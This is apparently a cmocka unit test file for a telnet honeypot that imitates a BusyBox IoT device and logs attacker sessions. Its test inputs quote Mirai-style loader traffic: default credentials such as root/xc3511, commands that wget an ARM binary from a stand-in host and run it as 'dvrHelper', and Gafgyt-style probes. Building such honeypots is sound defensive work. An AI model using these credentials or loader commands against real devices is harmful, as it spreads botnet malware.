/* The telnet persona, by the dialogues of facts 3 and by hand. */
#include "unit/respond/help.h"

#define HELLO "\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03login: "
#define BANNER                                                                                     \
    "\r\n\r\nBusyBox v1.19.3 (2014-07-24 10:49:36 CST) built-in shell (ash)\r\n"                   \
    "Enter 'help' for a list of built-in commands.\r\n\r\n"
#define ENTERED HELLO "root\r\nPassword: \r\n" BANNER "# "
#define ENTER   "root\r\nxc3511\r\n"

static int set_up(void **state)
{
    *state = built_in();
    return 0;
}

static int tear_down(void **state)
{
    persona_set_destroy(*state);
    return 0;
}

static void said(void **state, const char *text, const char *sent, const char *heard)
{
    struct played *played = play_text(persona_of_port(*state, 23), text);
    assert_string_equal(played->sent, sent);
    assert_string_equal(played->heard, heard);
    free(played);
}

/* What comes back for one command line, without its echo and the prompt. */
static void answers(void **state, const char *command, const char *answer)
{
    char text[2048], sent[8192];
    struct played *played;
    snprintf(text, sizeof text, ENTER "%s\r\n", command);
    played = play_text(persona_of_port(*state, 23), text);
    snprintf(sent, sizeof sent, ENTERED "%s\r\n%s# ", command, answer);
    assert_string_equal(played->sent, sent);
    free(played);
}

static void mirai_is_let_in_and_gets_its_answer(void **state)
{
    said(state, ENTER "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
         ENTERED "enable\r\n# system\r\n# shell\r\n# sh\r\n# /bin/busybox MIRAI\r\n"
                 "MIRAI: applet not found\r\n# ",
         "login root xc3511 accepted\ncommand enable\ncommand system\ncommand shell\ncommand sh\n"
         "command /bin/busybox MIRAI\n");
}

/* The loader's checks, with what each of them looks for in the answer. */
static const char loader[] =
    "\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
    "admin\r\0admin\r\0enable\r\0system\r\0shell\r\0sh\r\0"
    "/bin/busybox ps; /bin/busybox ECCHI\r\n"
    "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n"
    "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat "
    "/dev/.nippon; "
    "/bin/busybox rm /dev/.nippon\r\n"
    "/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; "
    "/bin/busybox ECCHI\r\n"
    "/bin/busybox cat /bin/echo\r\n"
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n"
    "/bin/busybox wget http://192.0.2.9:80/bins/x.arm7 -O - > dvrHelper; "
    "/bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"
    "./dvrHelper telnet.arm7; /bin/busybox IHCCE\r\n";

static void loader_finds_all_that_it_looks_for(void **state)
{
    static const char *const wanted[] = {
        "telnetd",
        "/dev/mtdblock4 /mnt/mtd jffs2 rw",
        "\r\nkami/dev\r\n# ",
        "ECCHI: applet not found\r\n# ",
        "\r\nUsage: wget ",
        "\r\nUsage: tftp ",
        "IHCCE: applet not found\r\n# ",
    };
    const uint8_t elf[] = {0x7f, 'E', 'L', 'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0, 1};
    struct played *played =
        play(persona_of_port(*state, 2323), loader, sizeof loader - 1, sizeof loader);
    /* The bytes have zeros in them. */
    const char *header = memmem(played->sent, played->sent_length, elf, sizeof elf);
    assert_non_null(header);
    assert_memory_equal(header + 52, "# /bin/busybox wget;", 20);
    for (size_t i = 0; i < sizeof wanted / sizeof wanted[0]; i++)
        if (memmem(played->sent, played->sent_length, wanted[i], strlen(wanted[i])) == NULL)
            fail_msg("no '%s'", wanted[i]);
    assert_null(memmem(played->sent, played->sent_length, "wget: applet not found", 22));
    assert_non_null(strstr(played->heard, "login admin admin accepted\ncommand enable\n"));
    assert_non_null(
        strstr(played->heard,
               "command /bin/busybox wget http://192.0.2.9:80/bins/x.arm7 -O - > dvrHelper"));
    assert_false(played->ended);
    free(played);
}

static void segments_do_not_matter(void **state)
{
    const struct persona *persona = persona_of_port(*state, 23);
    struct played *bytewise = play(persona, loader, sizeof loader - 1, 1);
    for (size_t first = 1; first < sizeof loader - 1; first++) {
        struct played *halves = play_begin(persona);
        play_hear(halves, loader, first);
        play_hear(halves, loader + first, sizeof loader - 1 - first);
        persona_end(&halves->session);
        assert_string_equal(halves->heard, bytewise->heard);
        assert_true(halves->reply.length < PERSONA_REPLY_BYTES);
        assert_int_equal(halves->sent_length, bytewise->sent_length);
        assert_memory_equal(halves->sent, bytewise->sent, bytewise->sent_length);
        free(halves);
    }
    free(bytewise);
}

static void later_loaders_find_what_they_look_for(void **state)
{
    answers(state, "cd /tmp; (cat .s || cp /bin/echo .s); /bin/busybox PEGOK",
            "cat: can't open '.s': No such file or directory\r\nPEGOK: applet not found\r\n");
    answers(state, "nc; wget http://192.0.2.9/x || /bin/busybox A1B",
            "-sh: nc: not found\r\nwget: can't connect to remote host: Connection timed out\r\n"
            "A1B: applet not found\r\n");
    struct played *played = play_text(persona_of_port(*state, 23),
                                      ENTER "cp /bin/echo .s\n(dd bs=52 count=1 if=.s || cat .s)\n"
                                            "while read i; do echo $i; done < /proc/self/exe\n");
    const char *first = memmem(played->sent, played->sent_length,
                               "\x7f"
                               "ELF",
                               4);
    assert_non_null(first);
    size_t left = played->sent_length - (size_t)(first + 4 - played->sent);
    assert_non_null(memmem(first + 4, left,
                           "\x7f"
                           "ELF",
                           4));
    free(played);
}

static void echo_prints_bytes(void **state)
{
    answers(state, "echo -ne '\\x41c4\\x42'", "Ac4B");
    answers(state, "echo -e \"\\x6b\\x61\\x6d\\x69\"", "kami\r\n");
    answers(state, "echo -en '\\0101\\n'", "A\r\n");
    /* Gafgyt's check: BusyBox takes octal without a zero before it. */
    answers(state, "echo -e '\\147\\141\\171\\146\\147\\164'", "gayfgt\r\n");
    answers(state, "echo -e '\\1019\\8'", "A9\\8\r\n");
    answers(state, "echo '\\x41' b", "\\x41 b\r\n");
    answers(state, "echo -n a; echo b", "ab\r\n");
    answers(state, "echo hidden >/dev/null 2>&1", "");
    answers(state, "echo a > f; echo b >> f; cat f", "a\r\nb\r\n");
    answers(state, "echo a > f; echo b > f; mv f g; cat g; rm g; cat g",
            "b\r\ncat: can't open 'g': No such file or directory\r\n");
}

static void commands_are_chained(void **state)
{
    answers(state, "cd /tmp && echo y || echo n", "y\r\n");
    answers(state, "cat /nowhere >/dev/null && echo y || echo n",
            "cat: can't open '/nowhere': No such file or directory\r\nn\r\n");
    answers(state, "wget http://192.0.2.9/x -O - > d; echo x; cat d",
            "wget: can't connect to remote host: Connection timed out\r\nx\r\n");
    answers(state, "mkdir x&&chmod 777 x;echo $?", "$?\r\n");
    answers(state, "cat /proc/mounts | grep nothing", "");
    answers(state, "whatever", "\r\n");
    answers(state, "/bin/busybox SATORI", "SATORI: applet not found\r\n");
    answers(state, "busybox IZ1H9 && echo no", "IZ1H9: applet not found\r\n");
    answers(state, "''", "\r\n");
    answers(state, "'open > \"quote", "\r\n");
    answers(state, ";;&&||()", "");
    answers(state, "echo 1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n o p q r s t u v w x y z",
            "1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n o p q r s t u v\r\n");
}

static void options_are_refused_but_for_ours(void **state)
{
    said(state,
         "\xff\xfd\x18\xff\xfb\x20\xff\xfd\x01\xff\xfd\x03\xff\xfb\x1f\xff\xfe\x22\xff\xfc\x23"
         "\xff\xf1",
         HELLO "\xff\xfc\x18\xff\xfe\x20", "");
}

static void subnegotiation_is_no_text(void **state)
{
    static const char naws[] = "ro\xff\xfa\x1f\xff\xff\x0d\x0a\x18\xff\xf0ot\n1234\n";
    struct played *played = play(persona_of_port(*state, 23), naws, sizeof naws - 1, 1);
    assert_string_equal(played->heard, "login root 1234 accepted\n");
    free(played);
}

/* RFC 854: a byte 255 among data is sent twice. */
static void byte_255_is_no_command(void **state)
{
    said(state, "r\xff\xff\n\n", HELLO "r\xff\xff\r\nPassword: \r\n" BANNER "# ",
         "login r\xff  accepted\n");
    answers(state, "echo -ne '\\xff\\x41'", "\xff\xff\x41");
    answers(state, "echo -ne '\\xff' > f; cat f", "\xff\xff");
}

static void line_ends_in_any_way(void **state)
{
    static const char text[] = "a\r\0b\r\nsh\nsh\rsh\r\r\nsh\0\n";
    struct played *played = play(persona_of_port(*state, 23), text, sizeof text - 1, 1);
    assert_string_equal(played->heard, "login a b accepted\ncommand sh\ncommand sh\ncommand sh\n"
                                       "command sh\n");
    free(played);
}

static void password_is_not_echoed(void **state)
{
    said(state, "root\rsecret", HELLO "root\r\nPassword: ", "login root secret refused\n");
}

static void client_that_wants_no_echo_gets_none(void **state)
{
    said(state, "\xff\xfe\x01root\r\n\r\nsh\r\n", HELLO "Password: " BANNER "# # ",
         "login root  accepted\ncommand sh\n");
}

static void keys_edit_the_line(void **state)
{
    said(state, "rooo\x7ft\n\n", HELLO "rooo\b \bt\r\nPassword: \r\n" BANNER "# ",
         "login root  accepted\n");
    said(state,
         ENTER "abc\x15sh\nabc\x03"
               "exit\n",
         ENTERED "abc\b \b\b \b\b \bsh\r\n# abc^C\r\n# exit\r\n",
         "login root xc3511 accepted\ncommand sh\ncommand exit\n");
    struct played *played = play_text(persona_of_port(*state, 23), ENTER "\x04sh\n");
    assert_true(played->ended);
    assert_string_equal(played->heard, "login root xc3511 accepted\n");
    free(played);
}

static void unfinished_line_is_handed_over_at_the_end(void **state)
{
    said(state, ENTER "wget http://192.0.2.9/x", ENTERED "wget http://192.0.2.9/x",
         "login root xc3511 accepted\ncommand wget http://192.0.2.9/x\n");
    said(state, "roo", HELLO "roo", "");
}

static void request_of_another_protocol_is_no_login(void **state)
{
    said(state, "GET / HTTP/1.0\r\nHost: a\r\n\r\n", HELLO "GET / HTTP/1.0\r\n", "");
    said(state, "OPTIONS sip:nm SIP/2.0\r\nFrom: a\r\n", HELLO "OPTIONS sip:nm SIP/2.0\r\n", "");
    said(state, "HTTP/1.1\nb", HELLO "HTTP/1.1\r\nPassword: ", "login HTTP/1.1 b refused\n");
    said(state, "A SIP/1x1\nb", HELLO "A SIP/1x1\r\nPassword: ", "login A SIP/1x1 b refused\n");
    said(state, "a b/1.1\nb", HELLO "a b/1.1\r\nPassword: ", "login a b/1.1 b refused\n");
}

/* Who was answered by lines, and who only by what is kept of his bytes. */
static void lines_are_a_dialogue_and_requests_are_not(void **state)
{
    static const struct {
        uint16_t port;
        const char *text;
        bool dialogue;
    } cases[] = {
        {23, "", true},
        {23, ENTER "wget http://192.0.2.9/x", true},
        {23, ENTER "GET / HTTP/1.0\r\n", true},
        {23, "GET /shell?wget+http://192.0.2.9/x HTTP/1.1\r\n\r\n", false},
        {80, "GET / HTTP/1.0\r\n\r\n", false},
        {5555, "CNXN", false},
        {443, "", false},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct played *played = play_text(persona_of_port(*state, cases[i].port), cases[i].text);
        assert_int_equal(persona_is_dialogue(&played->session), cases[i].dialogue);
        free(played);
    }
}

static void long_line_is_handed_over_in_pieces_that_lose_nothing(void **state)
{
    char text[6000] = ENTER, got[6000] = "";
    for (int i = 0; i < 200; i++)
        append(text, sizeof text, "echo 0123;wget http://a/;", 25);
    struct played *played = play(persona_of_port(*state, 23), text, strlen(text), 7);
    const char *line = strchr(played->heard, '\n') + 1;
    int pieces = 0;
    for (const char *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
        size_t length = (size_t)(end - line) - 8;
        assert_memory_equal(line, "command ", 8);
        assert_true(length <= 1024);
        assert_int_equal(end[-1], ';');
        append(got, sizeof got, line + 8, length);
        pieces++;
    }
    assert_string_equal(got, text + strlen(ENTER));
    assert_true(pieces >= 5);
    free(played);
}

static struct persona_set *set_with(const char *telnet)
{
    char text[1024];
    struct error error = {0};
    snprintf(text, sizeof text,
             "default: t\npersonas:\n  - name: t\n    engine: telnet\n    telnet: {%s}\n", telnet);
    struct persona_set *set =
        persona_set_parse("t.yaml", (const uint8_t *)text, strlen(text), &error);
    if (set == NULL)
        fail_msg("%s", error.text);
    return set;
}

static void accepts_from_the_configured_try_on(void **state)
{
    (void)state;
    struct persona_set *set = set_with("accept_try: 2");
    struct played *played = play_text(persona_of_port(set, 9), "a\nb\nc\nd\nsh\n");
    assert_string_equal(played->heard, "login a b refused\nlogin c d accepted\ncommand sh\n");
    assert_non_null(strstr(played->sent, "Password: \r\n\r\nLogin incorrect\r\nlogin: c\r\n"));
    free(played);
    persona_set_destroy(set);
}

static void hangs_up_after_too_many_refusals(void **state)
{
    (void)state;
    struct persona_set *set = set_with("accept_try: 0, refuse_limit: 2");
    struct played *played = play_text(persona_of_port(set, 9), "a\nb\nc\nd\ne\nf\n");
    assert_string_equal(played->heard, "login a b refused\nlogin c d refused\n");
    assert_true(played->ended);
    free(played);
    persona_set_destroy(set);
}

static void header_of_a_program_names_the_processor(void **state)
{
    (void)state;
    struct persona_set *set = set_with("accept_try: 1, cpu: mips, programs: [/bin/echo]");
    struct played *played = play_text(persona_of_port(set, 9), "a\nb\ncat /bin/echo\n");
    const uint8_t wanted[] = {0x7f, 'E', 'L', 'F', 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 8};
    assert_non_null(memmem(played->sent, played->sent_length, wanted, sizeof wanted));
    free(played);
    persona_set_destroy(set);
}

static void reply_is_cut_and_records_are_not(void **state)
{
    char text[4000] = ENTER;
    for (int i = 0; i < 300; i++)
        append(text, sizeof text, "ps\n", 3);
    struct played *played = play_text(persona_of_port(*state, 23), text);
    assert_int_equal(played->reply.length, PERSONA_REPLY_BYTES);
    size_t commands = 0;
    for (const char *at = played->heard; (at = strstr(at, "command ps\n")) != NULL; at++)
        commands++;
    assert_int_equal(commands, 300);
    free(played);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(mirai_is_let_in_and_gets_its_answer),
        cmocka_unit_test(loader_finds_all_that_it_looks_for),
        cmocka_unit_test(segments_do_not_matter),
        cmocka_unit_test(later_loaders_find_what_they_look_for),
        cmocka_unit_test(echo_prints_bytes),
        cmocka_unit_test(commands_are_chained),
        cmocka_unit_test(options_are_refused_but_for_ours),
        cmocka_unit_test(subnegotiation_is_no_text),
        cmocka_unit_test(byte_255_is_no_command),
        cmocka_unit_test(line_ends_in_any_way),
        cmocka_unit_test(password_is_not_echoed),
        cmocka_unit_test(client_that_wants_no_echo_gets_none),
        cmocka_unit_test(keys_edit_the_line),
        cmocka_unit_test(unfinished_line_is_handed_over_at_the_end),
        cmocka_unit_test(request_of_another_protocol_is_no_login),
        cmocka_unit_test(lines_are_a_dialogue_and_requests_are_not),
        cmocka_unit_test(long_line_is_handed_over_in_pieces_that_lose_nothing),
        cmocka_unit_test(accepts_from_the_configured_try_on),
        cmocka_unit_test(hangs_up_after_too_many_refusals),
        cmocka_unit_test(header_of_a_program_names_the_processor),
        cmocka_unit_test(reply_is_cut_and_records_are_not),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
